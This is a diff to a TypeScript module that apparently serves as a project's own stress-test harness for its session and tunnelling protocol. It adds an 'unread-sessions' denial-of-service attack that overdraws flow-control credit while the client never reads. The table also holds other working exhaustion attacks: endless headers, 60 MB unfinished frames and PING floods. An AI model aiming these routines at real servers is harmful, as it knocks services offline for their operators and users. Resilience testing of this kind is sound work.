@@ -1,4 +1,6 @@
+import { Buffer } from "node:buffer";
 import type { Socket } from "node:net";
+import { FRAME_HEAD, INITIAL_WINDOW, MAX_PIECE, OVERDRAFT } from "../../protocol/mod.ts";
 import { countAnswers, dial, dialMany, PROBE_ADDRESS, sendWithoutEnd } from "./dial.ts";
 import { openSession } from "./session.ts";
 import type { Attack, Tally, Victim } from "./types.ts";
@@ -51,6 +53,26 @@ function repeated(frame: readonly number[]): Uint8Array {
 const SESSION_PING = [0x82, 0x80 | 18, 0, 0, 0, 0, 0, 0, 0, 8, 7, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8];
 const SOCKET_PING = [0x89, 0x80, 0, 0, 0, 0];
 
+/** Below what an address may have. */
+const SESSIONS_PER_ADDRESS = 20;
+
+/** The answer to a session's first request, as much of it as may be sent without credit, in messages without a mask. */
+const OVERDRAWN = Buffer.concat(
+  Array.from({ length: (INITIAL_WINDOW + OVERDRAFT) / MAX_PIECE | 0 }, (_, index) => {
+    const block = index === 0 ? ENCODER.encode(`\r\ncontent-length: ${2 * OVERDRAFT}\r\n`) : new Uint8Array(0);
+    const start = index === 0 ? [0, 200, 0, block.length, ...block] : [];
+    const frame = new Uint8Array(FRAME_HEAD + start.length + MAX_PIECE);
+    new DataView(frame.buffer).setUint32(0, frame.length - FRAME_HEAD);
+    // RESPONSE or DATA, no flags, stream 1.
+    frame.set([index === 0 ? 2 : 3, 0, 0, 0, 0, 1], 4);
+    frame.set(start, FRAME_HEAD);
+    const head = new Uint8Array(14);
+    head.set([0x82, 0xff]);
+    new DataView(head.buffer).setBigUint64(2, BigInt(frame.length));
+    return Buffer.concat([head, frame]);
+  }),
+);
+
 /** Every attack by its name; what it does is one line each. */
 export const attacks: Readonly<Record<string, Attack>> = {
   /** Heads that begin and never end. */
@@ -91,6 +113,18 @@ export const attacks: Readonly<Record<string, Attack>> = {
       socket.pause();
       socket.write(get(victim, "/whole"));
     }),
+
+  /** Sessions that send all they may to a visitor of their own, who does not read. */
+  "unread-sessions": async (victim, count, tally) => {
+    for (let index = 0; index < count; index++) {
+      const address = 1 + Math.floor(index / SESSIONS_PER_ADDRESS);
+      const { socket, host } = await openSession(victim, tally, address);
+      socket.on("data", (bytes: Buffer) => bytes.includes("GET / ") && socket.write(OVERDRAWN));
+      const visitor = await dial(victim, address, tally);
+      visitor?.pause();
+      visitor?.write(get({ ...victim, host }, "/"));
+    }
+  },
 
   /** An upload without end to a service that reads a megabyte a second. */
   "slow-target": (victim, count, tally) =>
@@ -141,7 +175,7 @@ export const attacks: Readonly<Record<string, Attack>> = {
   /** Messages of 60 MB on sessions, without an end: a frame that is too large, and small ones that never stop. */
   "unfinished-sessions": async (victim, count, tally) => {
     for (let index = 0; index < count; index++) {
-      const socket = await openSession(victim, tally);
+      const { socket } = await openSession(victim, tally);
       socket.write(unfinishedFrame(1e9));
       // A DATA frame of a stream that never was is a fault, zeros too: so what follows is one frame's endless head.
       sendWithoutEnd(socket, ZEROS, tally, 60e6);
@@ -151,7 +185,7 @@ export const attacks: Readonly<Record<string, Attack>> = {
   /** PINGs of sessions, and of their WebSockets. */
   "session-pings": async (victim, count, tally) => {
     for (let index = 0; index < count; index++) {
-      const socket = await openSession(victim, tally);
+      const { socket } = await openSession(victim, tally);
       sendWithoutEnd(socket, repeated(index % 2 === 0 ? SESSION_PING : SOCKET_PING), tally);
     }
   },
@@ -159,7 +193,7 @@ export const attacks: Readonly<Record<string, Attack>> = {
   /** The same by a client that does not read the answers. */
   "session-pings-unread": async (victim, count, tally) => {
     for (let index = 0; index < count; index++) {
-      const socket = await openSession(victim, tally);
+      const { socket } = await openSession(victim, tally);
       socket.pause();
       sendWithoutEnd(socket, repeated(index % 2 === 0 ? SESSION_PING : SOCKET_PING), tally);
     }
